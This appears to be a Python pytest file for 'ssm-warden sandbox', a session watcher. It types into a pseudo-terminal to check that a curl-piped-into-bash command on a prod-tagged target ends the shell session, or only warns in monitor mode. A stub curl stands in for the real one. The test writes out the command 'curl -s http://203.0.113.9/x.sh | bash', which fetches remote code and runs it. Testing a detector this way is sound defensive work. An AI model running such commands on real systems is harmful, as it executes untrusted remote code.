"""``ssm-warden sandbox`` driven through a pseudo-terminal, as a person at a keyboard would drive it.

``curl`` is a stub on the shell's PATH (it prints a harmless script), so nothing leaves the machine.
"""

from __future__ import annotations

import contextlib
import os
import re
import select
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
CURL_BASH = "curl -s http://203.0.113.9/x.sh | bash"
TIMEOUT = 90.0  # seconds for any one expected output (the local stack takes a few to start)


class Keyboard:
    """The sandbox CLI on the slave side of a pseudo-terminal; the test types on the master side."""

    def __init__(self, args: list[str], env: dict[str, str]) -> None:
        self.master, slave = os.openpty()
        self.process = subprocess.Popen(
            [sys.executable, "-m", "ssm_warden.cli", "sandbox", *args],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            cwd=ROOT,
            env=env,
            start_new_session=True,
        )
        os.close(slave)
        self.screen = ""

    def type(self, text: str) -> None:
        os.write(self.master, text.encode())

    def wait_for(self, pattern: str, timeout: float = TIMEOUT) -> re.Match[str]:
        """Read the screen until ``pattern`` (a regex) appears; fail with the screen if it does not."""
        deadline = time.monotonic() + timeout
        while True:
            found = re.search(pattern, self.screen)
            if found:
                return found
            left = deadline - time.monotonic()
            if left <= 0:
                pytest.fail(f"{pattern!r} did not appear within {timeout} s; screen:\n{self.screen}")
            ready, _, _ = select.select([self.master], [], [], min(left, 0.5))
            if ready:
                try:
                    data = os.read(self.master, 65536)
                except OSError:  # the CLI exited and closed the terminal
                    data = b""
                if not data and self.process.poll() is not None:
                    pytest.fail(f"the sandbox exited before {pattern!r} appeared; screen:\n{self.screen}")
                self.screen += data.decode("utf-8", errors="replace")

    def exit_code(self, timeout: float = TIMEOUT) -> int:
        deadline = time.monotonic() + timeout
        while self.process.poll() is None and time.monotonic() < deadline:
            ready, _, _ = select.select([self.master], [], [], 0.2)
            if ready:
                with contextlib.suppress(OSError):  # the CLI exited and closed the terminal
                    self.screen += os.read(self.master, 65536).decode("utf-8", errors="replace")
        return self.process.wait(timeout=1)

    def close(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait(timeout=10)
        os.close(self.master)


@pytest.fixture
def shell_env(tmp_path: Path) -> dict[str, str]:
    """The environment of the sandbox (and of its shell): a stub curl first on PATH."""
    stubs = tmp_path / "bin"
    stubs.mkdir()
    curl = stubs / "curl"
    curl.write_text("#!/bin/sh\necho 'echo cleanup-ran'\n")
    curl.chmod(0o755)
    env = dict(os.environ)
    env.update({"PATH": f"{stubs}:{env.get('PATH', '/usr/bin:/bin')}", "TERM": "dumb", "USER": "tester"})
    return env


@pytest.fixture
def sandbox(shell_env: dict[str, str]) -> Iterator[Callable[..., Keyboard]]:
    opened: list[Keyboard] = []

    def start(*args: str) -> Keyboard:
        keyboard = Keyboard(list(args), shell_env)
        opened.append(keyboard)
        return keyboard

    yield start
    for keyboard in opened:
        keyboard.close()


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_curl_piped_into_bash_in_a_prod_sandbox_terminates_the_session_and_ends_the_shell(
    sandbox: Callable[..., Keyboard],
) -> None:
    # Given a sandbox on a prod-tagged target, its shell ready
    keyboard = sandbox("--tag", "Environment=prod")
    keyboard.wait_for(r"sandbox ready")
    keyboard.type("echo shell-pid=$$\n")
    shell_pid = int(keyboard.wait_for(r"\nshell-pid=(\d+)").group(1))
    # When the user types an ordinary command, then pipes a download into bash
    keyboard.type("echo hello\n")
    keyboard.wait_for(r"\nhello\r?\n")
    keyboard.type(CURL_BASH + "\n")
    # Then ssm-warden terminates the session and says why, in the terminal
    keyboard.wait_for(r"session terminated by ssm-warden: .*download-pipe-to-shell")
    assert keyboard.exit_code() == 0
    # And the shell is gone; the ordinary command raised nothing
    assert not _alive(shell_pid)
    before_curl = keyboard.screen.split(CURL_BASH)[0]
    assert "[ssm-warden] terminate" not in before_curl


def test_in_monitor_mode_the_sandbox_says_would_terminate_and_the_shell_lives_on(
    sandbox: Callable[..., Keyboard],
) -> None:
    # Given a sandbox in monitor mode on a prod-tagged target
    keyboard = sandbox("--monitor", "--tag", "Environment=prod")
    keyboard.wait_for(r"sandbox ready")
    keyboard.type("echo hello\n")
    keyboard.wait_for(r"\nhello\r?\n")
    # When the user pipes a download into bash
    keyboard.type(CURL_BASH + "\n")
    # Then ssm-warden says it would terminate, and does not
    keyboard.wait_for(r"would terminate")
    keyboard.type("echo still-alive\n")
    keyboard.wait_for(r"\nstill-alive\r?\n")
    assert "session terminated by ssm-warden" not in keyboard.screen
    # And the user leaves with exit, which ends the session from the host
    keyboard.type("exit\n")
    keyboard.wait_for(r"shell exited")
    assert keyboard.exit_code() == 0


@pytest.mark.parametrize(
    ("label", "args", "env"),
    [
        # bash with a starship-like two-line prompt ending in \u276f (the agent turns it into U+FFFD)
        ("starship-like", [], {"SSM_WARDEN_SANDBOX_PS1": "\n\\w\n\u276f "}),
        # zsh with its PROMPT_SP padding before each prompt and zle's redraws
        ("zsh", ["--shell", "zsh -f -i"], {"SSM_WARDEN_SANDBOX_PS1": "%m%# ", "TERM": "xterm-256color"}),
    ],
)
def test_a_themed_prompt_or_zsh_session_still_catches_curl_piped_into_bash(
    label: str, args: list[str], env: dict[str, str], shell_env: dict[str, str]
) -> None:
    if label == "zsh" and not Path("/usr/bin/zsh").exists() and not Path("/bin/zsh").exists():
        pytest.skip("zsh is not installed")
    # Given a prod sandbox whose shell prints a prompt no fixed shape knows
    keyboard = Keyboard(["--tag", "Environment=prod", *args], {**shell_env, **env})
    try:
        keyboard.wait_for(r"sandbox ready")
        keyboard.type("echo hello\r")
        keyboard.wait_for(r"\nhello\r?\n")
        # When the user pipes a download into bash
        keyboard.type(CURL_BASH + "\r")
        # Then ssm-warden terminates the session
        keyboard.wait_for(r"session terminated by ssm-warden: .*download-pipe-to-shell")
        assert keyboard.exit_code() == 0
    finally:
        keyboard.close()
